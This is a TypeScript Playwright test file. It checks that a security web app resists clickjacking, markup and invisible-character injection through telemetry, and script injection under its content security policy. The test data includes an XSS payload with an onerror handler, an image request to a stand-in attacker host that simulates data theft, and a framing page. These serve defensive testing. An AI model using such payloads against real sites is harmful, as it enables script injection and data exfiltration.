import { strict as assert } from 'node:assert';
import { writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { type Step, type World, waitUntil } from './walk.ts';

/** What others do to the pages. Each is run twice: against the product, and with the control that stops it taken out. */
export const HOSTILE: readonly Step[] = [
  { name: 'AUT-03: another site cannot frame the product, and could without the header', run: frameIt },
  { name: 'AUT-03: markup and unseen characters in telemetry are shown and do nothing', run: tellMarkup },
  { name: 'AUT-03: script in the page can neither write markup nor reach another site', run: injectScript },
];

const ATTACKER = 'http://attacker.invalid';

async function frameIt({ browser, demo }: World): Promise<void> {
  const site = createServer((_request, response) => {
    response.setHeader('content-type', 'text/html');
    response.end(
      `<!doctype html><title>a game</title><iframe width="900" height="600" src="${demo.origin}/"></iframe>`,
    );
  }).listen(0, '127.0.0.1');
  try {
    await new Promise(resolve => site.once('listening', resolve));
    const address = `http://localhost:${(site.address() as AddressInfo).port}/`;
    assert.equal(await framedText(browser, address, demo.origin, 'as it is'), undefined);
    assert.match((await framedText(browser, address, demo.origin, 'header taken out')) ?? '', /Countersign/);
  } finally {
    site.close();
  }
}

/** What of the product can be read in the frame; undefined where the browser refused to show it there. */
async function framedText(
  browser: Browser,
  address: string,
  origin: string,
  how: 'as it is' | 'header taken out',
): Promise<string | undefined> {
  const context = await browser.newContext();
  try {
    const page = await context.newPage();
    if (how === 'header taken out') {
      await page.route(`${origin}/**`, async route => {
        const response = await route.fetch().catch(() => undefined);
        if (response === undefined) return;
        const { 'content-security-policy': _policy, 'x-frame-options': _options, ...headers } = response.headers();
        // What is still on its way when the frame was read ends with the page.
        await route.fulfill({ response, headers }).catch(() => undefined);
      });
    }
    await page.goto(address);
    const frame = page.frames()[1];
    assert.ok(frame, 'the page of the attacker has a frame');
    if (frame.url().startsWith('chrome-error:')) return undefined;
    const heading = frame.getByText('Countersign').first();
    await heading.waitFor({ timeout: 10_000 });
    const text = await heading.innerText();
    await page.unrouteAll({ behavior: 'ignoreErrors' });
    return text;
  } finally {
    await context.close();
  }
}

const MARKUP = `<img src="${ATTACKER}/a.png" onerror="document.title='owned'"><b>qzx-bold</b> [click](${ATTACKER})`;
/** Right-to-left override, zero-width space, escape sequence of a terminal. */
const UNSEEN = 'qzx\u202egpj.exe\u200b\u001b[2Jend';
const LONG_HOST = `qzx-${'a-very-long-machine-name-'.repeat(8)}.example`;

async function tellMarkup(world: World): Promise<void> {
  const { demo, noa, browser } = world;
  const file = join(demo.folder, 'hostile.ndjson');
  const record = {
    id: 'qzx-1',
    time: new Date().toISOString(),
    name: MARKUP,
    host: LONG_HOST,
    user: UNSEEN,
    sev: 'high',
  };
  await writeFile(file, `${JSON.stringify(record)}\n`);
  const map = 'id=id,time=time,title=name,host=host,user=user,severity=sev';
  const sent = await demo.countersign('ingest', file, '--map', map, '--data', join(demo.folder, 'data'), '--json');
  assert.match(sent.out, /"kept":1/, sent.err);

  const { page, by } = noa;
  await waitUntil(
    async () => {
      await page.goto(`${demo.origin}/?q=qzx`);
      await page.locator('[data-testid="queue-row"], [data-testid="empty"]').first().waitFor();
      return (await by('queue-row').count()) > 0;
    },
    () => 'the alert did not come to the queue',
  );
  await requireInert(page, world, '<img src=');
  await by('queue-row').first().getByRole('link').click();
  await by('statement').first().waitFor();
  const address = page.url().split('?')[0];
  await by('citation').first().click();
  await by('raw-record').waitFor();
  await requireInert(page, world, '<img src=', '\u241b');
  for (const tab of ['alerts', 'entities', 'log']) {
    await page.goto(`${address}?tab=${tab}`);
    await by(`tab-${tab}`).waitFor();
    await page.locator('#tab-panel li, #tab-panel tr').first().waitFor();
    await requireInert(page, world);
  }
  assert.ok(await fetchesFromAttacker(browser), 'the same bytes do fetch where they are taken for markup');
}

/** Of the telemetry only text stands on the page, its unseen characters as glyphs, and no request left. */
async function requireInert(page: Page, { noa }: World, ...shown: readonly string[]): Promise<void> {
  const made = await page.locator(`img, iframe, object, b, a[href*="attacker.invalid"]`).count();
  assert.equal(made, 0, 'markup of the telemetry became elements');
  const text = await page.locator('body').innerText();
  for (const part of shown) assert.ok(text.includes(part), `${part} is not shown`);
  assert.doesNotMatch(text, /[\p{Cf}]|(?![\n\t])\p{Cc}/u, 'an unseen character stands on the page as itself');
  assert.doesNotMatch(await page.title(), /owned/);
  assert.deepEqual(noa.foreignRequests, []);
  const width = await page.evaluate('document.documentElement.scrollWidth - document.documentElement.clientWidth');
  assert.equal(width, 0, 'a long name makes the page scroll sideways');
}

async function fetchesFromAttacker(browser: Browser): Promise<boolean> {
  const context = await browser.newContext();
  try {
    const page = await context.newPage();
    const asked = page.waitForRequest(request => request.url().startsWith(ATTACKER), { timeout: 10_000 });
    await page.setContent(MARKUP);
    return (await asked) !== null;
  } finally {
    await context.close();
  }
}

const WRITE_MARKUP = `(() => { try { document.body.insertAdjacentHTML('beforeend', '<i id="written"></i>'); } catch { } return document.getElementById('written') !== null; })()`;
const RUN_SCRIPT = `(() => { try { const s = document.createElement('script'); s.textContent = 'window.ran = true'; document.body.append(s); } catch { } return window.ran === true; })()`;
const SEND_OUT = `new Promise(resolve => {
  const image = new Image();
  addEventListener('securitypolicyviolation', event => resolve('refused by ' + event.effectiveDirective), { once: true });
  image.onerror = () => setTimeout(() => resolve('sent'), 200);
  image.src = '${ATTACKER}/stolen.png';
})`;

async function injectScript({ browser, demo, noa }: World): Promise<void> {
  await noa.page.goto(`${demo.origin}/`);
  await noa.by('queue-row').first().waitFor();
  const tries = async (page: Page) => [
    await page.evaluate(WRITE_MARKUP),
    await page.evaluate(RUN_SCRIPT),
    await page.evaluate(SEND_OUT),
  ];
  assert.deepEqual(await tries(noa.page), [false, false, 'refused by img-src']);
  const context = await browser.newContext();
  try {
    assert.deepEqual(await tries(await context.newPage()), [true, true, 'sent'], 'all three work without the policy');
  } finally {
    await context.close();
  }
}
